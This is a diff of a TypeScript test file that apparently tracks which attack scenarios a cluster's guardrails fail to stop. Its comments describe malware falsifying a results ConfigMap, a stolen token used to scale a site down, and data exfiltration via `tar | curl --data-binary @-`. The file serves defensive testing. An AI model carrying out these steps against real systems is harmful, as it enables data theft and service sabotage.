@@ -452,14 +452,13 @@ const NOT_STOPPED_BY_THE_EXAMPLE = new Set([
   // no allowed_registries), every seed both ways. Its `ovs-mirror-producer` on the UPF's N3
   // attachment (A41.mirror) was here until session 47: traffic_mirrored stops it at request 2.
   A41.imageSwap,
-  // Day 42 (docs/risk.md, "Day 42: what it found"), open findings, `it.fails` in
+  // Day 42 (docs/risk.md, "Day 42: what it found"), an open finding, an `it.fails` in
   // risk-day42-findings.test.ts, every seed both ways: malware on a data journalist's laptop patches
   // the results overrides ConfigMap with false numbers (a merge patch like the desk's own, within
-  // prod-writes' 8 hours), and someone on the venue's guest Wi-Fi (one NAT address for the war room
-  // and the public) with a journalist's copied token and kubectl agent cuts the HPA's maxReplicas to
-  // 2 and scales the results site down (no guardrail reads a capacity cut).
+  // prod-writes' 8 hours). The guest Wi-Fi's HPA ceiling cut (A42.guestWifi) was here until session
+  // 48: with the site's floor (SITE, guardrails.replica_floors) capacity_below_floor stops it at
+  // request 2.
   A42.falseNumbers,
-  A42.guestWifi,
   // Day 43 (docs/risk.md, "Day 43: what it found"), an open finding, an `it.fails` in
   // risk-day43-findings.test.ts, every seed both ways: a pipeline spec changed in the repository
   // ships the compound library out of the training step (`tar | curl --data-binary @-`: the data,
